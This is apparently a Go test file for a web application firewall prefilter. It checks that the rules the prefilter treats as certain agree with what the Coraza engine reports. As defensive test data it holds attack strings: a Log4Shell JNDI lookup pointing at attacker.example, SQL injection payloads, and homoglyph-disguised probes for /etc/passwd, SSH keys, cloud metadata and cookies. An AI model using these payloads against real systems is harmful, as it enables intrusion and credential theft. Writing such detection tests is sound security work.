package sieve

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"weir/inspect/engine"
)

// attacks are the payloads of the corpus.
func attacks() ([]string, error) {
	raw, err := os.ReadFile("../../test/corpus/attacks.jsonl")
	if err != nil {
		return nil, err
	}
	var out []string
	for d := json.NewDecoder(bytes.NewReader(raw)); ; {
		var c struct {
			Payload string
			Binary  bool
		}
		if err := d.Decode(&c); errors.Is(err, io.EOF) {
			return out, nil
		} else if err != nil {
			return nil, err
		}
		if c.Binary {
			data, err := base64.StdEncoding.DecodeString(c.Payload)
			if err != nil {
				return nil, err
			}
			c.Payload = string(data)
		}
		out = append(out, c.Payload)
	}
}

// nearly are texts that conditions hold for, and that rules do not match: their letters are foreign.
var nearly = []string{
	"cat /etc/pa\u017f\u017fwd", "/bin/ba\u017fh", "file_put_content\u017f(", "a.w\u017fdl .hta\u212ae .ht\u212aacce\u017f\u017f", "java.lang.Proce\u017f\u017fBuilder",
	"document.coo\u212aie", "169.254.169.254/late\u017ft", "$_\u017fERVER", "invo\u212ae-expre\u017f\u017fion", "Get-Proce\u017f\u017f", ".\u017f\u017fh/id_r\u017fa",
}

// inFull is all that the engine says of each match, in its order, but for what hangs on chance: Coraza lists the values
// that match a rule in the order of a map.
func inFull(matches []engine.Match, err error) []string {
	var out []string
	for len(matches) > 0 {
		n := slices.IndexFunc(matches, func(m engine.Match) bool { return m.Rule != matches[0].Rule })
		if n < 0 {
			n = len(matches)
		}
		one := matches[:n]
		slices.SortStableFunc(one, func(a, b engine.Match) int { return a.Value - b.Value })
		for _, m := range one {
			out = append(out, fmt.Sprintf("%+v", m))
		}
		matches = matches[n:]
	}
	if err != nil {
		out = append(out, err.Error())
	}
	return out
}

// certainOf are suspects of values, which may stand beside a request, with what is certain of each value.
func certainOf(sieve *Sieve, r *Request, values []engine.Value) *engine.Suspects {
	s := new(Suspects)
	asked := &engine.Suspects{Matches: s.Matches}
	for _, v := range values {
		s.Begin()
		sieve.Suspect([]byte(v.Text), s)
		asked.ByValue = append(asked.ByValue, slices.Clone(s.Since()))
		asked.Certain = append(asked.Certain, slices.Clone(s.Certain()))
	}
	asked.ValuesOnly = r != nil && !sieve.SuspectRequest(r, s)
	asked.Rules, _ = s.Rules()
	return asked
}

// toldTwice compares what the engine finds if some of it is certain, and if nothing is. It counts the matches, and notes which rules
// were certain.
func toldTwice(t *testing.T, level int, r *Request, values []engine.Value, address string, told map[int]bool) (matches int) {
	t.Helper()
	var request *engine.Request
	if r != nil {
		request = asEngine(r)
		request.ClientIP = address
	}
	asked := certainOf(sieveAt(level), r, values)
	few, err := engineAt(t, level).Evaluate(context.Background(), request, values, asked)
	asked.Certain = nil
	long, longErr := engineAt(t, level).Evaluate(context.Background(), request, values, asked)
	without := make(map[int]bool) // a text: those that are certain
	for _, m := range few {
		if m.Text == "" && m.Value >= 0 {
			without[m.Rule], told[m.Rule] = true, true
		}
	}
	for i := range long {
		if without[long[i].Rule] {
			long[i].Text = ""
		}
	}
	if got, want := inFull(few, err), inFull(long, longErr); !slices.Equal(got, want) {
		t.Errorf("level %d, %q beside %+v: Coraza says\n%s\nwith what is certain\n%s", level, values, r, strings.Join(want, "\n"), strings.Join(got, "\n"))
	}
	return len(few)
}

// What is certain, Coraza would say word for word, in the same place, with whatever else it is asked about.
func TestWhatIsCertainIsWhatTheEngineFinds(t *testing.T) {
	n, every := 4, 23
	switch {
	case *full:
		n, every = 10, 1
	case testing.Short():
		n, every = 1, 167
	}
	texts := slices.Concat(nearly, spelt(n, 47), mustList(t, attacks), mustList(t, regressions), mustList(t, fixtures), plain, transformed, traps)
	told, all := make(map[int]bool), 0
	for level := 1; level <= 4; level++ {
		for i, text := range texts {
			if i >= len(nearly) && i%every != level%every || !sieveAt(level).MayMatch([]byte(text)) {
				continue
			}
			values := []engine.Value{{Name: "a", Text: text}}
			for n, name := range []string{"", "b", "c"}[:i%4] { // they differ, since the links of a chain tell Coraza's texts by name
				values = append(values, engine.Value{Name: name, Text: texts[(i*31+n*1009+7)%len(texts)]})
			}
			all += toldTwice(t, level, nil, values, "", told)
		}
	}
	t.Logf("%d matches, and %d rules were certain", all, len(told))
	if len(told) < 50 {
		t.Errorf("only %d rules were ever certain", len(told))
	}
}

// The same holds beside requests of all kinds.
func TestWhatIsCertainBesideARequestIsWhatTheEngineFinds(t *testing.T) {
	n := 600
	switch {
	case *full:
		n = 20_000
	case testing.Short():
		n = 50
	}
	corpus, err := requests()
	if err != nil {
		t.Fatal(err)
	}
	values := slices.DeleteFunc(slices.Concat(mustList(t, attacks), mustList(t, regressions), nearly), func(text string) bool {
		return !sieveAt(1).MayMatch([]byte(text))
	})
	s := newSpeller(53)
	texts := slices.Concat(mustList(t, regressions), plain, transformed)
	told, all := make(map[int]bool), 0
	for level := 1; level <= 4; level++ {
		beside := 0
		for range n {
			r := s.varied(corpus, 4, texts)
			some := []engine.Value{{Name: "a", Text: values[s.IntN(len(values))]}, {Name: "page", Text: values[s.IntN(len(values))]}}[:1+s.IntN(2)]
			if sieveAt(level).MayMatchRequest(r) {
				continue // then nothing is certain
			}
			beside++
			all += toldTwice(t, level, r, some, "192.0.2.7", told)
		}
		t.Logf("level %d: beside %d requests of which nothing was suspected", level, beside)
		if beside == 0 {
			t.Errorf("level %d: something was suspected of every request", level)
		}
	}
	t.Logf("%d matches, and %d rules were certain", all, len(told))
	if len(told) < 20 {
		t.Errorf("only %d rules were ever certain", len(told))
	}
}

// Requests that a web server sends to itself are no others than they seem, whichever way their values are judged.
func TestNoRequestTakesTheRulesAway(t *testing.T) {
	values := []engine.Value{{Name: "a", Text: "${jndi:ldap://attacker.example/a}"}}
	told := make(map[int]bool)
	for _, agent := range []string{"Apache/2.4.58 (Ubuntu) (internal dummy connection)", browser[1].Value} {
		for _, line := range []Request{{Method: "GET", URI: "/"}, {Method: "GET", URI: "/", Protocol: "HTTP/1.0"}, {Method: "OPTIONS", URI: "*", Protocol: "HTTP/1.0"}} {
			line.Headers = []Header{{"Host", "shop.example.com"}, {"User-Agent", agent}, {"Accept", "*/*"}}
			for level := 1; level <= 4; level++ {
				for _, address := range []string{"127.0.0.1", "::1", "192.0.2.7"} {
					if toldTwice(t, level, &line, values, address, told) == 0 {
						t.Errorf("level %d: nothing is found beside %+v from %s", level, line, address)
					}
				}
			}
		}
	}
	if !told[944150] {
		t.Error("the rule was never certain")
	}
}

// A rule with multiMatch counts for each text on the way that it matches, of which there are more the more is undone.
func TestWhatIsCertainCountsAsOftenAsItMatches(t *testing.T) {
	for text, want := range map[string]int{
		"1' or 1=1--":                               1,
		"a%27%20or%20%271%27=%271":                  1, // only when it is undone
		"1' or 1=1-- %41":                           2,
		"1' or 1=1-- %41%00":                        3,
		"1' or 1=1-- \u00e9%00":                     4,
		"1' union select password from users where": 1,
	} {
		values := []engine.Value{{Name: "a", Text: text}}
		asked := certainOf(sieveAt(1), nil, values)
		times := 0
		for _, rule := range asked.Certain[0] {
			if rule == 942100 {
				times++
			}
		}
		if times != want {
			t.Errorf("%q matches %d times", text, times)
		}
		told := make(map[int]bool)
		if toldTwice(t, 1, nil, values, "", told); !told[942100] {
			t.Errorf("%q: Coraza was asked", text)
		}
	}
}

// Where something is suspected of the request, Coraza is asked about all.
func TestNothingIsCertainBesideARequestThatIsSuspect(t *testing.T) {
	values := []engine.Value{{Name: "a", Text: "${jndi:ldap://attacker.example/a}"}}
	for uri, want := range map[string]bool{"/": true, "/?a=${jndi:ldap://attacker.example/a}": false, "/?a=/etc/passwd": false} {
		r := &Request{Method: "GET", URI: uri, Protocol: "HTTP/1.1", Headers: browser}
		matches, err := engineAt(t, 1).Evaluate(context.Background(), asEngine(r), values, certainOf(sieveAt(1), r, values))
		at := slices.IndexFunc(matches, func(m engine.Match) bool { return m.Rule == 944150 && m.Value == 0 })
		if err != nil || at < 0 || (matches[at].Text == "") != want {
			t.Errorf("beside %s: %+v, %v", uri, matches, err)
		}
	}
}
